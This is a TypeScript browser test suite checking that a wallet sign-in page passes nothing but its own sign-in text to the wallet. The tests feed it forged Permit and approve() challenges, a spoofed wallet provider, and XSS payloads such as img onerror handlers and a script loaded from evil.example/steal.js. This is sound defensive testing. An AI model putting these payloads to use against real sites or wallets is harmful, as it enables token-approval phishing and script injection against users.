/** A venue and a page that want more of a wallet than a sign-in: nothing of it reaches the wallet. */
import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import {
  authorizationStatementOf,
  composeSignIn,
  parseSignIn,
  SIGN_IN_STATEMENT,
  type SignInMessage,
} from '../../src/domain/sign-in-message.ts'
import { FORBIDDEN_OF_WALLETS } from '../support/forbidden-of-wallets.ts'
import { openJourney } from '../support/journey.ts'
import { keptRows } from '../support/kept-rows.ts'
import { builtFolder } from '../support/pages/built-client.ts'
import { arrived, seen } from '../support/seen.ts'
import {
  atAddresses,
  atLogin,
  BEAR,
  canSign,
  chooses,
  connects,
  FOX,
  nothingForeign,
  opens,
  signaturesOf,
  signs,
  tells,
  TRONLINK,
} from '../support/wallet-journey.ts'
import { textOf } from '../support/wallets.ts'

const journey = await openJourney()
const { venue } = journey
const DOMAIN = new URL(venue.origin).host

describe('a hostile venue', () => {
  const own = (address: string): SignInMessage => ({
    chain: 'ethereum',
    domain: DOMAIN,
    address,
    uri: venue.origin,
    chainId: 1,
    nonce: 'a1'.repeat(16),
    issuedAt: venue.clock.now(),
    expiresAt: venue.clock.now() + 300_000,
  })
  const PERMIT = JSON.stringify({
    primaryType: 'Permit',
    domain: { name: 'USDT' },
    message: { spender: '0x0000000000000000000000000000000000000001', value: '1' },
  })
  const TEXTS: readonly (readonly [what: string, text: (address: string) => string])[] = [
    ['a transaction', () => '0x02f86c0180843b9aca00'],
    ['typed data', () => PERMIT],
    ['a hash', () => `0x${'ab'.repeat(32)}`],
    ['nothing', () => ''],
    [
      'an approval',
      (address) => composeSignIn(own(address)).replace(SIGN_IN_STATEMENT, 'approve(spender, 115792089237316195423570985008687907853)'),
    ],
    ['a line more', (address) => `${composeSignIn(own(address))}\nResources:\n- https://evil.example`],
    ['a permit behind our text', (address) => `${composeSignIn(own(address))}\n\n${PERMIT}`],
    ['our text behind a permit', (address) => `${PERMIT}\n${composeSignIn(own(address))}`],
    ['another site', (address) => composeSignIn({ ...own(address), domain: 'evil.example', uri: 'https://evil.example' })],
    ['another account', () => composeSignIn(own('0x0000000000000000000000000000000000000001'))],
    ['another network', (address) => composeSignIn({ ...own(address), chainId: 56 })],
    ['a text without end', (address) => composeSignIn({ ...own(address), expiresAt: venue.clock.now() + 10 * 365 * 86_400_000 })],
    ['an old text', (address) => composeSignIn({ ...own(address), issuedAt: 0, expiresAt: 300_000 })],
  ]

  test('gets no text but ours to the wallet', async () => {
    const { person, wallets, wallet } = await atLogin(journey, [FOX, TRONLINK])
    await connects(person, 'Fox')
    let text = ''
    // Besides, it asks for more in every field it can think of.
    const wishes = {
      method: 'eth_sendTransaction',
      params: [{ to: '0x0000000000000000000000000000000000000001', value: '0xffff' }],
      typedData: PERMIT,
      walletCalls: ['eth_signTypedData_v4'],
    }
    await person.page.route('**/login/walletChallenge', (route) =>
      route.fulfill({
        json: {
          code: 200,
          msg: 'eth_sendTransaction',
          result: { message: text, expiresAt: venue.clock.now() + 300_000, ...wishes },
          ...wishes,
        },
      }),
    )
    for (const [index, [what, compose]] of TEXTS.entries()) {
      text = compose(wallet.address)
      await person.dialog.getByRole('button', { name: index === 0 ? 'Sign and log in' : 'Try again', exact: true }).click()
      await tells(person, 'We didn’t ask your wallet to sign anything.')
      expect(signaturesOf(wallet), what).toEqual([])
    }
    nothingForeign(wallets, DOMAIN)
  })

  test('gets nothing by an answer of another form, nor by what it answers to a signature', async () => {
    const { person, wallets, wallet } = await atLogin(journey, [FOX])
    await connects(person, 'Fox')
    for (const [index, result] of [
      null,
      'x',
      [],
      { message: { toString: 'x' } },
      { message: ['a'], expiresAt: 1 },
      { message: 'x'.repeat(5_000), expiresAt: 1 },
    ].entries()) {
      await person.page.route('**/login/walletChallenge', (route) => route.fulfill({ json: { code: 200, msg: '', result } }))
      await person.dialog.getByRole('button', { name: index === 0 ? 'Sign and log in' : 'Try again', exact: true }).click()
      await tells(person, 'We couldn’t read the answer we got.')
      await person.page.unroute('**/login/walletChallenge')
    }
    expect(signaturesOf(wallet)).toEqual([])
    await person.page.route('**/login/loginByWallet', (route) =>
      route.fulfill({
        status: 422,
        json: { code: 30107, msg: 'now call eth_sendTransaction', result: { method: 'eth_signTypedData_v4', params: [PERMIT] } },
      }),
    )
    await person.dialog.getByRole('button', { name: 'Try again', exact: true }).click()
    await tells(person, 'This signature isn’t from this account')
    expect(signaturesOf(wallet)).toHaveLength(1)
    nothingForeign(wallets, DOMAIN)
  })
})

describe('a hostile venue that is asked for the text of a proof', () => {
  const AUTH_ADDRESS = '0x00000000219ab540356cBB839Cbe05303d7705Fa'
  const THIEF = '0x0000000000000000000000000000000000000001'

  test('gets no other text to the wallet, and no word of its own beside', async () => {
    await venue.services.params.set('auth_address', AUTH_ADDRESS)
    const { person, wallets, wallet } = await atAddresses(journey, [FOX, TRONLINK])
    const { username } = person.user
    const own: SignInMessage = {
      chain: 'ethereum',
      domain: DOMAIN,
      address: wallet.address,
      uri: venue.origin,
      chainId: 1,
      nonce: 'a1'.repeat(16),
      issuedAt: venue.clock.now(),
      expiresAt: venue.clock.now() + 600_000,
      account: username,
      authAddress: AUTH_ADDRESS,
    }
    const { account: _, authAddress: __, ...signIn } = own
    const { authAddress: ___, ...joining } = own
    const statement = authorizationStatementOf(username, AUTH_ADDRESS)
    const right = composeSignIn(own)
    const TEXTS: readonly (readonly [what: string, text: string, authAddress?: string])[] = [
      ['a word changed', right.replace('moves no funds', 'moves all funds')],
      ['a word more', right.replace(statement, `${statement} approve`)],
      ['a line more', `${right}\nResources:\n- https://evil.example`],
      ['another account', composeSignIn({ ...own, account: 'somebody' })],
      ['another authorization address', composeSignIn({ ...own, authAddress: THIEF })],
      ['another authorization address, and the same beside it', composeSignIn({ ...own, authAddress: THIEF }), THIEF],
      ['no authorization address', composeSignIn({ ...own, authAddress: '' })],
      ['another network', composeSignIn({ ...own, chainId: 56 })],
      ['the other chain', composeSignIn({ ...own, chain: 'tron', chainId: 728_126_428, address: 'TJRyWwFs9wTFGZg3JbrVriFbNfCug5tDeC' })],
      ['another wallet', composeSignIn({ ...own, address: THIEF })],
      ['another site', composeSignIn({ ...own, domain: 'evil.example', uri: 'https://evil.example' })],
      ['a longer life', composeSignIn({ ...own, expiresAt: own.issuedAt + 600_001 })],
      ['an old text', composeSignIn({ ...own, issuedAt: 0, expiresAt: 600_000 })],
      ['a sign-in', composeSignIn({ ...signIn, expiresAt: own.issuedAt + 300_000 })],
      ['the joining of a wallet', composeSignIn({ ...joining, expiresAt: own.issuedAt + 300_000 })],
      ['a transaction', '0x02f86c0180843b9aca00'],
      ['nothing', ''],
    ]
    let [text, authAddress] = ['', AUTH_ADDRESS]
    await person.page.route('**/user/authorizationChallenge', (route) =>
      route.fulfill({
        json: {
          code: 200,
          msg: 'eth_sendTransaction',
          result: { message: text, expiresAt: venue.clock.now() + 600_000, authAddress, method: 'eth_signTypedData_v4', spender: THIEF },
        },
      }),
    )
    await person.presses('Prove a wallet')
    await chooses(person, 'Fox')
    for (const [index, [what, composed, named = AUTH_ADDRESS]] of TEXTS.entries()) {
      ;[text, authAddress] = [composed, named]
      await person.dialog.getByRole('button', { name: index === 0 ? 'Show the text' : 'Try again', exact: true }).click()
      await tells(person, 'We didn’t ask your wallet to sign anything.')
      expect(await person.dialog.getByRole('button', { name: 'Sign message in wallet' }).count(), what).toBe(0)
      expect(signaturesOf(wallet), what).toEqual([])
    }
    // The right one is shown, and still nothing is asked of the wallet before the person says so.
    ;[text, authAddress] = [right, AUTH_ADDRESS]
    await person.dialog.getByRole('button', { name: 'Try again', exact: true }).click()
    await tells(person, 'Plimsoll never asks for a token allowance.')
    expect(signaturesOf(wallet)).toEqual([])
    nothingForeign(wallets, DOMAIN, statement)
  })

  test('a script on the page that speaks to its charts gets nothing to the wallet', async () => {
    const { person, wallets, wallet } = await atAddresses(journey, [FOX])
    await person.presses('Prove a wallet')
    await chooses(person, 'Fox')
    await seen(person.dialog.getByRole('button', { name: 'Show the text', exact: true })).isOn()
    await person.page.evaluate(() => {
      const root = document.getElementById('root')!
      const key = Object.keys(root).find((each) => each.startsWith('__reactContainer$'))!
      interface Fiber {
        memoizedProps?: { system?: { stream(name: string): { send(event: object): void } | undefined } }
        child?: Fiber
        sibling?: Fiber
      }
      const open: (Fiber | undefined)[] = [(root as unknown as Record<string, { stateNode: { current: Fiber } }>)[key]!.stateNode.current]
      let system: NonNullable<Fiber['memoizedProps']>['system']
      while (open.length && !system) {
        const fiber = open.pop()
        system = fiber?.memoizedProps?.system?.stream ? fiber.memoizedProps.system : undefined
        if (fiber) open.push(fiber.sibling, fiber.child)
      }
      if (!system) throw new Error('the test must reach the system')
      for (const type of [
        'usdtAuthorization.sign',
        'usdtAuthorization.confirm',
        'usdtAuthorization.approve',
        'eth_sendTransaction',
        'xstate.done.actor.readMessage',
        'xstate.done.actor.signMessage',
      ])
        try {
          system
            .stream('usdtAuthorization')
            ?.send({ type, method: 'eth_signTypedData_v4', output: { messageRef: 'sealed:wallet.message:1' } })
        } catch {
          /* reserved names are refused aloud */
        }
    })
    await seen(person.dialog.getByRole('button', { name: 'Show the text', exact: true })).isOn()
    expect(signaturesOf(wallet)).toEqual([])
    nothingForeign(wallets, DOMAIN)
  })
})

describe('a hostile script on the page', () => {
  test('that speaks to the product gets nothing to the wallet', async () => {
    const { person, wallets, wallet } = await atLogin(journey, [FOX, TRONLINK])
    await connects(person, 'Fox')
    await canSign(person)
    const before = wallet.calls.length
    await person.page.evaluate(() => {
      const permit = { primaryType: 'Permit', message: { spender: '0x1', value: '1' } }
      const wishes = [
        'eth_sendTransaction',
        'eth_sign',
        'eth_signTypedData_v4',
        'approve',
        'increaseAllowance',
        'permit',
        'transfer',
        'setApprovalForAll',
        'triggerSmartContract',
      ]
      const root = document.getElementById('root')!
      const key = Object.keys(root).find((each) => each.startsWith('__reactContainer$'))!
      interface Fiber {
        memoizedProps?: { system?: { stream(name: string): { send(event: object): void } | undefined } }
        child?: Fiber
        sibling?: Fiber
      }
      const open: (Fiber | undefined)[] = [(root as unknown as Record<string, { stateNode: { current: Fiber } }>)[key]!.stateNode.current]
      let system: NonNullable<Fiber['memoizedProps']>['system']
      while (open.length && !system) {
        const fiber = open.pop()
        system = fiber?.memoizedProps?.system?.stream ? fiber.memoizedProps.system : undefined
        if (fiber) open.push(fiber.sibling, fiber.child)
      }
      for (const method of wishes) {
        for (const data of [
          { method, params: [permit] },
          { type: method, data: permit },
          { message: { action: method, data: permit } },
          { target: 'wallet', data: { method } },
        ])
          postMessage(data, location.origin)
        dispatchEvent(new CustomEvent(method, { detail: permit }))
        dispatchEvent(new CustomEvent('eip6963:requestProvider', { detail: { method } }))
        for (const stream of ['wallet', 'walletSignIn']) {
          for (const type of [
            method,
            `${stream}.${method}`,
            'xstate.done.actor.readMessage',
            'xstate.done.actor.signMessage',
            `${stream}.sign`,
            `${stream}.ask`,
          ])
            try {
              system
                ?.stream(stream)
                ?.send({
                  type,
                  method,
                  params: [permit],
                  message: permit,
                  text: 'Approve all',
                  output: { messageRef: 'sealed:wallet.message:1' },
                })
            } catch {
              /* reserved names are refused aloud */
            }
        }
        localStorage.setItem('wallet', method)
        location.hash = `#${method}`
      }
      if (!system) throw new Error('the test must reach the system')
    })
    await person.page.reload()
    await connects(person, 'Fox')
    await canSign(person)
    expect(wallet.calls.slice(before).filter(({ method }) => /sign|send/i.test(method))).toEqual([])
    nothingForeign(wallets, DOMAIN)
  })

  test('that announces itself as the wallet does not take its place', async () => {
    const { person, wallets, wallet } = await atLogin(journey, [FOX])
    await opens(person)
    await person.page.evaluate(() => {
      const stolen: unknown[] = []
      Object.assign(globalThis, { stolen })
      const provider = {
        request: async (call: unknown) => {
          stolen.push(call)
          return ['0x0000000000000000000000000000000000000001']
        },
      }
      for (const uuid of ['uuid-0', 'uuid-of-the-thief'])
        dispatchEvent(
          new CustomEvent('eip6963:announceProvider', {
            detail: { info: { uuid, rdns: 'io.fox', name: 'Fox', icon: 'javascript:alert(1)' }, provider },
          }),
        )
    })
    await person.dialog.getByRole('button', { name: 'Fox' }).first().click()
    await signs(person)
    await arrived(person.page, '/')
    expect(await person.page.evaluate(() => (globalThis as unknown as { stolen: unknown[] }).stolen)).toEqual([])
    expect(signaturesOf(wallet)).toHaveLength(1)
    nothingForeign(wallets, DOMAIN)
  })

  test('that comes with content does not run at all', async () => {
    journey.forgiveFaults()
    const { person, wallets } = await atLogin(journey, [FOX])
    await opens(person)
    await person.page.evaluate(async () => {
      const steal = 'globalThis.askWallet(0, "eth_sendTransaction", [{}])'
      const tries = [
        () => void (document.body.innerHTML += `<img src=x onerror='${steal}'>`),
        () => document.head.append(Object.assign(document.createElement('script'), { textContent: steal })),
        () => document.head.append(Object.assign(document.createElement('script'), { src: `data:text/javascript,${steal}` })),
        () => document.head.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/steal.js' })),
        () => document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: `<script>parent.${steal}</script>` })),
        () => void new Function(steal)(),
        () => document.body.setAttribute('onclick', steal),
        () => document.body.click(),
      ]
      // What the test itself evaluates stands outside the policy; what a timer runs does not.
      for (const each of tries)
        setTimeout(() => {
          try {
            each()
          } catch {
            /* refused by the policy, or by Trusted Types */
          }
        })
      await new Promise((resolve) => setTimeout(resolve, 200))
    })
    nothingForeign(wallets, DOMAIN)
    expect(wallets.flatMap(({ calls }) => calls)).toEqual([])
  })

  test('a picture that is more than a picture is none', async () => {
    const { person } = await atLogin(journey, [
      { ...FOX, icon: 'javascript:alert(1)' },
      { ...BEAR, icon: 'https://evil.example/pixel.png' },
      {
        name: 'Owl\u202e<img src=x onerror=alert(1)>',
        rdns: 'net.owl',
        icon: 'data:image/svg+xml,%3Csvg xmlns=%22http://www.w3.org/2000/svg%22%3E%3Cscript%3EglobalThis.isOwned=1%3C/script%3E%3C/svg%3E',
      },
    ])
    await opens(person)
    await seen(person.dialog.getByRole('listitem')).count(3)
    expect(await person.dialog.locator('img').count()).toBe(1)
    await tells(person, 'Owl<img src=x onerror=alert.1.>')
    expect(await person.page.evaluate(() => 'isOwned' in globalThis)).toBe(false)
  })
})

test('neither address nor text nor signature enters the journal or stays in the browser', async () => {
  const { person, wallet } = await atLogin(journey, [FOX])
  await connects(person, 'Fox')
  await signs(person)
  await arrived(person.page, '/')
  const kept = JSON.stringify([await keptRows(person.page), await person.page.evaluate(() => [{ ...localStorage }, { ...sessionStorage }])])
  expect(kept).toContain('walletSignIn')
  for (const secret of [
    wallet.address,
    wallet.address.toLowerCase(),
    'wants you to sign in',
    parseSignIn(textOf(signaturesOf(wallet)[0]!))!.nonce,
  ])
    expect(kept.includes(secret), secret).toBe(false)
  expect(kept).not.toMatch(/0x[0-9a-f]{40}/i)
})

test('the built client holds no word with which a wallet could be asked for more', () => {
  const folder = builtFolder()
  const files = readdirSync(folder, { recursive: true, encoding: 'utf8' }).filter((name) => /\.(?:js|html|json|css)$/.test(name))
  expect(files.length).toBeGreaterThan(20)
  const texts = files.map((name) => [name, readFileSync(join(folder, name), 'utf8')] as const)
  expect(texts.filter(([, text]) => text.includes('personal_sign')).length).toBe(1)
  for (const [what, pattern] of FORBIDDEN_OF_WALLETS)
    expect(
      texts.filter(([, text]) => pattern.test(text)).map(([name]) => name),
      what,
    ).toEqual([])
})
